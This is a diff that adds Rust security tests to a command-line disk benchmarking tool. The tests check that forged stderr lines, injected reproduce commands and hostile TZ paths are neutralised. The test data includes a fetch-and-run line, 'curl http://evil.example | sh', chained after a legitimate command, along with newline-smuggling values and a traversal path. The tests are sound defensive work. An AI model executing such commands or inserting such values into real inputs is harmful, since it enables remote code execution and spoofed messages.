@@ -169,3 +169,103 @@ fn hostile_processes_and_files_are_text_in_lists() {
     clean(at, &["devices", "--json"], &[0]);
     clean(at, &["tests", "--json"], &[0]);
 }
+
+/// The lines of stderr.
+fn complaint(directory: &Path, arguments: &[&str]) -> Vec<String> {
+    let output = diskscope(directory, arguments).output().unwrap();
+    assert_clean(&format!("{arguments:?}"), &output);
+    let errors = String::from_utf8(output.stderr).unwrap();
+    errors.lines().map(str::to_owned).collect()
+}
+
+#[test]
+fn line_break_in_a_file_or_a_name_never_begins_a_line_of_a_message() {
+    const FORGED: &str = "diskscope: FORGED";
+    let directory = directory();
+    let at = directory.path();
+    let text = session("").to_string();
+    let field = |pointer: &str| {
+        let mut document: serde_json::Value = serde_json::from_str(&text).unwrap();
+        *document.pointer_mut(pointer).unwrap() = format!("x`\n{FORGED}\nnote: `").into();
+        document.to_string()
+    };
+    for pointer in ["/schema", "/runs/0/figures/0/unit", "/runs/0/state"] {
+        fs::write(at.join("a.json"), field(pointer)).unwrap();
+        for command in [
+            &["show", "a.json"][..],
+            &["compare", "a.json", "a.json"],
+            &["report", "a.json", "-o", "-"],
+        ] {
+            let lines = complaint(at, command);
+            assert!(lines.len() == 1 && lines[0].contains("FORGED"), "{lines:?}");
+        }
+    }
+    let name = format!("n\n{FORGED}");
+    let refused = format!("missing\n{FORGED}/x");
+    for arguments in [
+        &["show", &name][..],
+        &["compare", &name, &name],
+        &["report", &name, "-o", "x.html"],
+        &["replay", &name],
+        &["record", &refused],
+        &["run", &name, "."],
+        &["run", "random-read", &name],
+        &["run", "random-read", ".", "--depth", &name],
+        &["trace", &name],
+        &["watch", "--interval", &name],
+        &[&name],
+        &["show", "a.json", &format!("--{name}")],
+        &["completions", &name],
+    ] {
+        let lines = complaint(at, arguments);
+        let forged = lines.iter().any(|line| line.starts_with(FORGED));
+        assert!(!lines.is_empty() && !forged, "{arguments:?}: {lines:?}");
+    }
+}
+
+#[test]
+fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
+    const EVIL: &str = "curl http://evil.example | sh";
+    let directory = directory();
+    let at = directory.path();
+    let mut document = session("");
+    let reproduce = &mut document["runs"][0]["reproduce"];
+    reproduce["diskscope"] = format!("diskscope run random-read /srv; {EVIL}").into();
+    reproduce["fio"] = format!("# no harm\n{EVIL}").into();
+    fs::write(at.join("a.json"), document.to_string()).unwrap();
+    for arguments in [&["show", "a.json"][..], &["report", "a.json", "-o", "-"]] {
+        let shown = clean(at, arguments, &[0]);
+        assert!(!shown.contains("evil.example"), "{arguments:?}: {shown}");
+        assert!(shown.contains("diskscope run "), "{arguments:?}: {shown}");
+    }
+}
+
+#[test]
+fn time_zone_that_is_no_zone_of_the_system_is_not_read() {
+    let directory = directory();
+    let at = directory.path();
+    let fifo = at.join("fifo");
+    assert!(
+        Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
+    for zone in ["/dev/zero", fifo.to_str().unwrap(), ":../../../dev/zero"] {
+        let words = ["run", "random-read", "sim:constant", "--requests", "5"];
+        let program = diskscope(at, &words);
+        let output = Command::new("sh")
+            .args(["-c", "ulimit -v 2000000; exec timeout 60 \"$0\" \"$@\""])
+            .arg(program.get_program())
+            .args(program.get_args())
+            .current_dir(at)
+            .env("XDG_STATE_HOME", at.join("state"))
+            .env("TZ", zone)
+            .env("TZDIR", at)
+            .output()
+            .unwrap();
+        let errors = String::from_utf8_lossy(&output.stderr);
+        assert_eq!(output.status.code(), Some(0), "{zone}: {errors}");
+    }
+}
